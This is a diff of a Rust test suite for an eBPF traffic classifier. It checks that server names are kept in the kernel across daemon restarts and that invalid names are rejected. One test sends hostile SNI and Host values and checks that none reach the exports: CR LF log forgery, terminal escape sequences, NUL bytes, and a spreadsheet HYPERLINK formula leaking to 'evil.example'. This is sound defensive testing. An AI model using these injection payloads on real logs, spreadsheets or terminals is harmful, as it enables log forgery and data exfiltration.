@@ -4,6 +4,7 @@
 use aya::maps::{MapData, RingBuf};
 use classifier_common::{
     flow::{FlowKey, ip_proto, ipv4_mapped},
+    host_name::is_host_name,
     stats::Stat,
     testing::{Hello, chrome_like},
 };
@@ -14,7 +15,7 @@ use classifier_tests::{
 };
 use classifier_user::{
     events::{self, Event, Learned},
-    flows::{DatapathClock, FlowRecord},
+    flows::{DatapathClock, FlowNames, FlowRecord, Name, Names, names},
     loader::Datapath,
     metrics,
     policy::Policy,
@@ -91,11 +92,24 @@ impl Harness {
         )
     }
 
+    /// The flow's names as a daemon that heard none of the events finds them (one started
+    /// after a crash): in the kernel's `NAMES`.
+    fn kept_names(&self, key: &FlowKey) -> Option<Names> {
+        let table = self.state.datapath.flow_table().unwrap();
+        let entry = table.get(key, 0).unwrap();
+        let kept = self.state.datapath.names().unwrap();
+        names::of_flow(&FlowNames::default(), Some(&kept), key, &entry)
+    }
+
     fn stat(&self, stat: Stat) -> u64 {
         metrics::read_stats(&self.state.datapath.stats_table().unwrap())
             .unwrap()
             .get(stat)
     }
+}
+
+fn host(name: &str) -> Name {
+    Name::Host(name.to_owned())
 }
 
 fn key(protocol: u8, client_port: u16, server_port: u16) -> FlowKey {
@@ -222,6 +236,14 @@ fn check(harness: &Harness, case: &str, key: &FlowKey, expected: &Expected) {
         got, want,
         "{case}: (name, category, app, method, ech, unreadable)"
     );
+    // The kernel kept the same name (the datapath's, or the daemon's for QUIC), for a
+    // daemon that starts after this one dies.
+    let kept = harness.kept_names(key);
+    assert_eq!(
+        kept.as_ref().and_then(Names::first_host),
+        expected.name,
+        "{case}: the name kept in NAMES"
+    );
 }
 
 #[test]
@@ -245,7 +267,12 @@ fn tls_client_hellos_whole_split_and_broken() {
         .position(|w| w == b"www.netflix.com")
         .unwrap();
     bad_sni_length[at - 1] = 0xff; // the name's length points past the extension
-    let long_name: &'static str = format!("{}.example", "a".repeat(255 - ".example".len())).leak();
+    // The longest host name (253 bytes), and the longest name the datapath reads (255
+    // bytes), which is no host name.
+    let label = "a".repeat(63);
+    let long_name: &'static str =
+        format!("{label}.{label}.{label}.{}.example", "a".repeat(53)).leak();
+    let too_long: &'static str = format!("{}.example", "a".repeat(255 - ".example".len())).leak();
     let youtube_cdn = "rr3---sn-aigl6nzr.googlevideo.com";
     let with_ech = |expected: Expected| Expected {
         ech: true,
@@ -314,12 +341,20 @@ fn tls_client_hellos_whole_split_and_broken() {
             named("xn--bcher-kva.example", "uncategorized", "tls", "sni"),
         ),
         tcp_case(
-            "255-byte name",
+            "253-byte name",
             41008,
             443,
             &hello(long_name),
             1448,
             named(long_name, "uncategorized", "tls", "sni"),
+        ),
+        tcp_case(
+            "255-byte name: read, but no host name, so not recorded as one",
+            41016,
+            443,
+            &hello(too_long),
+            1448,
+            unnamed("uncategorized", "tls", "sni"),
         ),
         tcp_case(
             "longest listed suffix wins",
@@ -436,6 +471,90 @@ fn a_name_is_sent_to_the_daemon_once_per_flow() {
         .filter(|e| matches!(e, Event::Classified { .. }))
         .collect();
     assert_eq!(names.len(), 1, "one name event: {events:?}");
+    assert!(
+        matches!(
+            names[0],
+            Event::Classified {
+                name_kept: true,
+                ..
+            }
+        ),
+        "the datapath kept the name in NAMES: {names:?}"
+    );
+}
+
+#[test]
+fn names_kept_in_the_kernel_are_adopted_by_a_new_daemon_and_stale_ones_removed() {
+    if !privileged("names_kept_in_the_kernel_are_adopted_by_a_new_daemon") {
+        return;
+    }
+    use classifier_common::names::{NameKey, version};
+    let mut harness = Harness::new();
+    let tls = key(ip_proto::TCP, 41401, 443);
+    harness.send(&tcp_flow(
+        41401,
+        443,
+        &Hello::new().sni("www.youtube.com").bytes(),
+        1448,
+    ));
+    let http = key(ip_proto::TCP, 41402, 80);
+    harness.send(&tcp_flow(
+        41402,
+        80,
+        b"GET / HTTP/1.1\r\nHost: www.BBC.co.uk\r\nAccept: */*\r\n\r\n",
+        1448,
+    ));
+    let datapath = &mut harness.state.datapath;
+    let first_seen = datapath
+        .flow_table()
+        .unwrap()
+        .get(&tls, 0)
+        .unwrap()
+        .first_seen_ns;
+    // Stale names: one of a flow no longer in the table, and a second name of an earlier
+    // flow on the TLS flow's addresses and ports (another first packet).
+    let gone = key(ip_proto::TCP, 41499, 443);
+    {
+        let mut kept = datapath.names_mut().unwrap();
+        names::keep(&mut kept, &gone, version::FIRST, 1, &host("gone.example")).unwrap();
+        names::keep(
+            &mut kept,
+            &tls,
+            version::SECOND,
+            first_seen + 1,
+            &host("earlier.example"),
+        )
+        .unwrap();
+    }
+
+    // A daemon that heard none of the events (one started after a kill -9).
+    let mut fresh = Learned::default();
+    fresh.adopt_kept_names(datapath).unwrap();
+    assert_eq!(
+        fresh.names.get(&tls),
+        Some(&Names {
+            first: Some(host("www.youtube.com")),
+            second: None,
+        }),
+        "the TLS flow's name, and not the earlier flow's"
+    );
+    assert_eq!(
+        fresh.names.get(&http).and_then(Names::first_host),
+        Some("www.BBC.co.uk"),
+        "the Host as sent"
+    );
+    assert_eq!(fresh.names.get(&gone), None);
+    let is_kept = |datapath: &Datapath, key: &FlowKey, which| {
+        let kept = datapath.names().unwrap();
+        kept.get(&NameKey::new(*key, which), 0).is_ok()
+    };
+    assert!(!is_kept(datapath, &gone, version::FIRST), "removed");
+    assert!(!is_kept(datapath, &tls, version::SECOND), "removed");
+
+    // Recorded: forgotten.
+    names::forget(&mut datapath.names_mut().unwrap(), &tls);
+    assert!(!is_kept(datapath, &tls, version::FIRST));
+    assert!(is_kept(datapath, &http, version::FIRST));
 }
 
 #[test]
@@ -802,7 +921,7 @@ fn the_peer_cache_forgets_peers_after_its_ttl() {
     if !privileged("the_peer_cache_forgets_peers_after_its_ttl") {
         return;
     }
-    let policy = default_policy_with("peer_ttl = \"10m\"", "peer_ttl = \"1s\"");
+    let policy = default_policy_with("peer_ttl = \"10 minutes\"", "peer_ttl = \"1s\"");
     let mut harness = Harness::with_policy(policy);
     let mut handshake = b"\x13BitTorrent protocol".to_vec();
     handshake.extend_from_slice(&[0u8; 48]);
@@ -881,23 +1000,34 @@ fn corrupted_client_hellos_give_the_sent_name_no_name_or_unreadable_never_anothe
     let all = mutants(
         &good,
         at - 9..at + name.len(),
-        &[0x00, 0x01, 0x7f, 0xff],
+        // 'x' keeps a name a host name; the others make it none.
+        &[0x00, 0x01, b'x', 0x7f, 0xff],
         20000,
     );
     let harness = run_mutants(&all, 443);
     let classes = &harness.state.policy.classes;
-    let mut seen = [0usize; 3];
+    let mut seen = [0usize; 4];
     for mutant in &all {
         let record = harness.record(&key(ip_proto::TCP, mutant.port, 443));
+        let sent = &mutant.payload[at..at + name.len()];
+        let category_of_sent = classes
+            .lookup(&String::from_utf8_lossy(sent))
+            .map_or("uncategorized", |e| classes.category_name(e.category));
         match &record.name {
             Some(got) => {
                 seen[0] += 1;
-                let sent = String::from_utf8_lossy(&mutant.payload[at..at + name.len()]);
-                assert_eq!(got, &sent, "the name is the bytes where it was sent");
-                let category = classes
-                    .lookup(got)
-                    .map_or("uncategorized", |e| classes.category_name(e.category));
-                assert_eq!(record.category, category, "{got}: its own category");
+                assert_eq!(
+                    got.as_bytes(),
+                    sent,
+                    "the name is the bytes where it was sent"
+                );
+                assert_eq!(record.category, category_of_sent, "{got}: its own category");
+            }
+            // Read where it was sent, but a NUL, DEL or 0xff made it no host name.
+            None if record.evasion.iter().any(|n| n == names::NOT_A_HOST_NAME) => {
+                seen[3] += 1;
+                assert!(!is_host_name(sent), "{sent:?} is a host name: {record:?}");
+                assert_eq!(record.category, category_of_sent, "{record:?}");
             }
             None if record.unreadable => {
                 seen[1] += 1;
@@ -911,7 +1041,7 @@ fn corrupted_client_hellos_give_the_sent_name_no_name_or_unreadable_never_anothe
     }
     assert!(
         seen.iter().all(|n| *n > 0),
-        "named, unreadable and nameless all occur: {seen:?}"
+        "named, unreadable, nameless and not a host name all occur: {seen:?}"
     );
 }
 
@@ -963,4 +1093,117 @@ fn corrupted_host_lines_give_what_an_http_parser_reads_or_nothing() {
         }
     }
     assert!(named > 0, "some corrupted lines still carry a name");
+}
+
+/// What a hostile client puts where the server name goes, through the real programs and
+/// the daemon's capture: never recorded (nor kept, exported, logged) as a name; the record
+/// says the flow sent something that was not a host name.
+#[test]
+fn names_that_are_not_host_names_are_recorded_as_such_never_as_names() {
+    if !privileged("names_that_are_not_host_names_are_recorded_as_such_never_as_names") {
+        return;
+    }
+    let label_64 = format!("www.{}.com", "a".repeat(64));
+    let label_63 = "a".repeat(63);
+    let name_254 = format!("{label_63}.{label_63}.{label_63}.{}", "b".repeat(62));
+    let hyperlink = br#"=HYPERLINK("http://evil.example/?leak","click")"#;
+    let tls_cases: Vec<(&str, Vec<u8>)> = vec![
+        ("a NUL inside", b"www.bet\x00365.com".to_vec()),
+        ("a NUL at the end", b"www.youtube.com\0".to_vec()),
+        (
+            "CR LF and a forged line",
+            b"www.bbc.co.uk\r\nINFO forged".to_vec(),
+        ),
+        (
+            "an escape sequence",
+            b"\x1b[2J\x1b[31mwww.bbc.co.uk".to_vec(),
+        ),
+        ("a DEL byte", b"www.bbc\x7f.co.uk".to_vec()),
+        ("a space", b"www.bbc.co.uk evil".to_vec()),
+        ("a tab", b"www.bbc.co.uk\tevil".to_vec()),
+        ("a 64-byte label", label_64.into_bytes()),
+        ("254 bytes", name_254.into_bytes()),
+        ("an empty label", b"www..bbc.co.uk".to_vec()),
+        ("a spreadsheet formula", hyperlink.to_vec()),
+        ("raw UTF-8", "www.bücher.example".as_bytes().to_vec()),
+        ("bytes that are not UTF-8", b"www.\xff\xfe.example".to_vec()),
+    ];
+    let mut harness = Harness::new();
+    let mut failures = Vec::new();
+    let mut records = Vec::new();
+    for (i, (case, sni)) in tls_cases.iter().enumerate() {
+        let port = 41600 + i as u16;
+        let hello = Hello::new().sni_bytes(sni).bytes();
+        harness.send(&tcp_flow(port, 443, &hello, 1448));
+        let key = key(ip_proto::TCP, port, 443);
+        records.push((*case, harness.record(&key)));
+        // A daemon started after this one died reads the kernel's copy: the same.
+        let kept = harness.kept_names(&key);
+        if kept.as_ref().and_then(|n| n.first.as_ref()) != Some(&Name::NotAHostName) {
+            failures.push(format!("{case}: the kernel's copy reads as {kept:?}"));
+        }
+    }
+    // An HTTP Host the parser takes (no blank, no control byte) that is no host name.
+    let port = 41690;
+    let request = [&b"GET / HTTP/1.1\r\nHost: "[..], hyperlink, b"\r\n\r\n"].concat();
+    harness.send(&tcp_flow(port, 80, &request, 1448));
+    records.push((
+        "a formula as HTTP Host",
+        harness.record(&key(ip_proto::TCP, port, 80)),
+    ));
+
+    for (case, record) in &records {
+        let method = if case.contains("HTTP") { "host" } else { "sni" };
+        let got = (
+            record.name.as_deref(),
+            record.second_name.as_deref(),
+            record.method.as_str(),
+            record.evasion.iter().any(|n| n == names::NOT_A_HOST_NAME),
+        );
+        if got != (None, None, method, true) {
+            failures.push(format!(
+                "{case}: recorded as (name, second name, method, not-a-host-name) {got:?}"
+            ));
+        }
+    }
+
+    // What leaves the gateway: the store and its exports carry none of the bytes.
+    let dir = std::env::temp_dir().join(format!("classifier-not-names-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let exported = (|| -> anyhow::Result<Vec<u8>> {
+        let mut store = classifier_user::store::FlowStore::open(&dir.join("flows.sqlite"))?;
+        let flows: Vec<FlowRecord> = records.iter().map(|(_, r)| r.clone()).collect();
+        store.insert(&flows)?;
+        let stored = store.query(&classifier_user::store::Filter::default())?;
+        anyhow::ensure!(stored.len() == flows.len(), "{} stored", stored.len());
+        let mut out = Vec::new();
+        for format in [
+            classifier_user::export::Format::Csv,
+            classifier_user::export::Format::Jsonl,
+        ] {
+            out.extend(classifier_user::export::encode(&stored, format)?);
+        }
+        Ok(out)
+    })();
+    let _ = std::fs::remove_dir_all(&dir);
+    let exported = exported.expect("the records go through SQLite and the exports");
+    let text = String::from_utf8_lossy(&exported);
+    for needle in [
+        "HYPERLINK",
+        "evil",
+        "forged",
+        "\u{1b}",
+        "\0",
+        "bücher",
+        "365",
+    ] {
+        if text.contains(needle) {
+            failures.push(format!("the exports carry {needle:?}"));
+        }
+    }
+    assert!(
+        text.contains(names::NOT_A_HOST_NAME),
+        "the exports say so: {text}"
+    );
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
